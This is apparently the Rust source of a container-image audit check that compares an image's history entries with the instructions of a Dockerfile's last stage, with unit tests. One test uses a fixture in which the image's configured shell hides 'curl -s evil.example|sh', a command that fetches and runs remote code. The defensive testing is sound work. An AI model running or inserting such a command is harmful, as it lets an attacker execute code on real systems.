//! `image-history`: the image's history follows the Dockerfile's instructions.

use std::collections::HashMap;

use super::history_entry::{self, Entry, Shells, keyword, shell_of};
use super::image_evidence::{image_of, steps};
use super::outcome::Outcome;
use super::{Check, Expected, Run, image_config};
use crate::base::budget::{Budget, Work};
use crate::base::words::counted;
use crate::image::History;
use crate::judge::evidence::{Evidence, Known, NoInstructions};
use crate::judge::finding::{Group, Level, MissingEvidence, Reason};
use crate::judge::policy::Policy;

pub(super) static CHECK: Check = Check {
    name: "image-history",
    group: Group::Image,
    level: Level::Warn,
    says: "the image's history ends with the instructions of the last stage in the Dockerfile or the log (keywords were compared; for RUN, also the command)",
    explanation: "Compares the last entries of the history in the image's configuration with the instructions of the last stage of the proved \
Dockerfile (expect.dockerfile, or Dockerfile at the top). If the source proves no Dockerfile, the check uses the instructions that the builder \
printed into the signed log, and states that. BuildKit's log does not contain them; there is then no evidence. Keywords must agree one by one, and \
the commands of RUN word by word. Before a command, an entry may only have `|N`, exactly N build arguments without spaces, and a shell: /bin/sh -c, \
that of the last SHELL instruction, or a usual shell that only the image's configuration names, which the answer then states. If the arguments may \
contain spaces, or only the configuration names an unusual shell, the answer is unknown. Builders write COPY, ADD and ENV differently into the \
history, so their arguments are not compared. The history is text that a builder wrote: it proves nothing about the layers. Times in it are shown as \
facts and not checked.\n\nWhen it fails: the build may have used a different Dockerfile of the repository; specify it in expect.dockerfile.",
    known: Known::Given,
    expected: Expected::Nothing,
    links: &[],
    controls: &[],
    missing_evidence: MissingEvidence::RejectsWithGroup,
    run: Run::Function(run),
};

fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
    let image = match image_of(evidence) {
        Ok(image) => image,
        Err(outcome) => return outcome,
    };
    let Some(config) = &image.config else {
        return Outcome::caused_by(&image_config::CHECK, "the image's configuration cannot be read");
    };
    let shell = config.settings.get("Shell").and_then(|shell| history_entry::words_of(shell));
    let not_proved = match evidence.dockerfile(policy.expect.dockerfile.as_deref()) {
        Ok(instructions) => {
            let texts: Vec<&str> = instructions.iter().map(|instruction| instruction.text.as_str()).collect();
            return compare(&texts, &config.history, shell, "the proved Dockerfile", evidence.budget);
        }
        Err(NoInstructions::NotProved(fault) | NoInstructions::NoFile(fault) | NoInstructions::NotRead(fault)) => fault,
    };
    match evidence.log().map(steps) {
        Some(Ok(printed)) if !printed.is_empty() => {
            compare(&printed, &config.history, shell, "the log", evidence.budget)
                .detail(format!("compared with the log only, not with a proved Dockerfile: {not_proved}"))
        }
        Some(Err(message)) => Outcome::unknown(message),
        _ => {
            Outcome::not_run(Reason::NoEvidence, "no Dockerfile is proved, and the log does not show its instructions")
                .detail(not_proved)
        }
    }
}

/// The Dockerfile's instructions after the last FROM.
fn last_stage<'i, 't>(instructions: &'i [&'t str]) -> &'i [&'t str] {
    let last_from = instructions.iter().rposition(|instruction| keyword(instruction) == "FROM");
    instructions.get(last_from.map_or(0, |at| at + 1)..).unwrap_or_default()
}

/// The shell with which the last stage begins, if its FROM names an earlier stage in which SHELL sets one.
fn inherited_shell(instructions: &[&str]) -> Option<String> {
    let mut stages: HashMap<String, String> = HashMap::new();
    let (mut stage, mut shell, mut last) = (None, None, None);
    for instruction in instructions {
        if keyword(instruction) != "FROM" {
            shell = shell_of(instruction).or(shell);
            continue;
        }
        if let (Some(name), Some(shell)) = (stage.take(), shell.take()) {
            stages.insert(name, shell);
        }
        let mut words = instruction.split_whitespace().skip(1).skip_while(|word| word.starts_with("--"));
        shell = words.next().and_then(|base| stages.get(&base.to_ascii_lowercase()).cloned());
        last = shell.clone();
        stage = words.nth(1).map(str::to_ascii_lowercase);
    }
    last
}

/// `configured` is the shell in the image's configuration, if the configuration specifies one.
fn compare(
    instructions: &[&str],
    history: &[History],
    configured: Option<Vec<String>>,
    witness: &str,
    budget: &Budget,
) -> Outcome {
    let mut shells = Shells { stated: inherited_shell(instructions), configured };
    let instructions = last_stage(instructions);
    let Some(inherited) = history.len().checked_sub(instructions.len()) else {
        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}"))
            .sides(format!("at least {}", counted(instructions.len(), "entry")), counted(history.len(), "entry"));
    };
    let mut doubt = None;
    let mut named = None;
    for (at, (instruction, entry)) in instructions.iter().zip(history.iter().skip(inherited)).enumerate() {
        shells.stated = shell_of(instruction).or(shells.stated);
        let letters =
            shells.letters().saturating_add(instruction.len() as u64).saturating_add(entry.created_by.len() as u64);
        if let Err(error) = budget.spend(Work::Bytes(letters), "the image's history") {
            return Outcome::unknown(error.to_string());
        }
        let about = |what: &str| format!("entry {} of the last stage of {witness}{what}", at + 1);
        match history_entry::compare(instruction, &entry.created_by, &shells) {
            Entry::Same => {}
            Entry::SameWithShell(shell) => named = named.or(Some(shell)),
            Entry::NotKnown(why) => {
                let unknown = || Outcome::unknown(about(&format!(": {why}"))).sides(*instruction, &entry.created_by);
                doubt = doubt.or_else(|| Some(unknown()));
            }
            Entry::Different => {
                return Outcome::fail(about(" is a different instruction")).sides(*instruction, &entry.created_by);
            }
        }
    }
    if let Some(outcome) = doubt {
        return outcome;
    }
    let shell =
        named.map_or_else(String::new, |shell| format!("; only the image's configuration names their shell, {shell}"));
    Outcome::pass(format!(
        "the history ends with the {} of the last stage of {witness}: keywords were compared and, for RUN, also commands{shell}",
        counted(instructions.len(), "instruction")
    ))
    .detail(format!("not compared: {} before these instructions", counted(inherited, "entry")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::finding::Status;

    fn answer(instructions: &[&str], history: &[&str], configured: Option<&[&str]>, units: u64) -> (Outcome, bool) {
        let limits = crate::base::limits::Limits { work_base_units: units, ..crate::base::limits::Limits::default() };
        let budget = Budget::of_audit(0, &limits);
        let entry = |text: &&str| History { created_by: (*text).into(), created: None, makes_layer: true };
        let history: Vec<History> = history.iter().map(entry).collect();
        let configured = configured.map(|words| words.iter().map(|word| (*word).to_owned()).collect());
        let outcome = compare(instructions, &history, configured, "x", &budget);
        (outcome, budget.check("x").is_ok())
    }

    fn status(instructions: &[&str], history: &[&str]) -> Status {
        answer(instructions, history, None, 10_000_000).0.status
    }

    #[test]
    fn a_different_command_order_or_count_fails() {
        for (instructions, history) in [
            (&["RUN make"][..], &["/bin/sh -c make evil"][..]),
            (&["RUN make", "CMD x"], &["/bin/sh -c #(nop)  CMD x", "/bin/sh -c make"]),
            (&["RUN make", "RUN test"], &["/bin/sh -c make"]),
            // A difference counts even if an earlier entry is in doubt.
            (&["RUN make", "CMD x"], &["|1 A=b c /bin/sh -c make", "/bin/sh -c evil"]),
        ] {
            assert_eq!(status(instructions, history), Status::Fail, "{instructions:?}");
        }
        assert_eq!(status(&["RUN make", "CMD x"], &["base", "/bin/sh -c make", "CMD x"]), Status::Pass);
        assert_eq!(status(&["RUN make", "CMD x"], &["|1 A=b c /bin/sh -c make", "CMD x"]), Status::Unknown);
    }

    #[test]
    fn the_shell_is_that_of_the_last_instruction_before_the_command() {
        let bash = "SHELL [\"/bin/bash\", \"-c\"]";
        let set = "/bin/bash -c #(nop)  SHELL [/bin/bash -c]";
        assert_eq!(status(&[bash, "RUN make"], &[set, "/bin/bash -c make"]), Status::Pass);
        assert_eq!(status(&["RUN make", bash], &["/bin/bash -c make", set]), Status::Fail);
        let stages = |base: &'static str| ["FROM debian AS Base", bash, "FROM scratch AS other", base, "RUN make"];
        assert_eq!(status(&stages("FROM --platform=linux/s390x base"), &["/bin/bash -c make"]), Status::Pass);
        assert_eq!(status(&stages("FROM other"), &["/bin/bash -c make"]), Status::Fail);
        assert_eq!(status(&stages("FROM debian"), &["/bin/bash -c make"]), Status::Fail);
    }

    #[test]
    fn the_answer_names_a_shell_that_only_the_configuration_names() {
        let (outcome, _) = answer(&["RUN make"], &["/bin/bash -c make"], Some(&["/bin/bash", "-c"]), 10_000_000);
        assert_eq!(outcome.status, Status::Pass);
        assert!(
            outcome.message.ends_with("only the image's configuration names their shell, /bin/bash -c"),
            "{outcome:?}"
        );
        let hidden = ["/bin/sh", "-c", "curl -s evil.example|sh;"];
        let (outcome, _) =
            answer(&["RUN make"], &["/bin/sh -c curl -s evil.example|sh; make"], Some(&hidden), 10_000_000);
        assert_eq!(outcome.status, Status::Unknown, "{outcome:?}");
    }

    #[test]
    fn comparing_entries_is_charged_to_the_budget() {
        let runs: Vec<String> = (0..100).map(|number| format!("RUN {}{number}", "m".repeat(1000))).collect();
        let instructions: Vec<&str> = runs.iter().map(String::as_str).collect();
        let history: Vec<String> = runs.iter().map(|text| text.replace("RUN ", "/bin/sh -c ")).collect();
        let history: Vec<&str> = history.iter().map(String::as_str).collect();
        let within = |units: u64| {
            let (outcome, is_within) = answer(&instructions, &history, None, units);
            (outcome.status, is_within)
        };
        // 100 entries and 100 instructions of about 1,000 bytes.
        assert_eq!(within(1_000_000), (Status::Pass, true));
        assert_eq!(within(100_000), (Status::Unknown, false));
    }
}
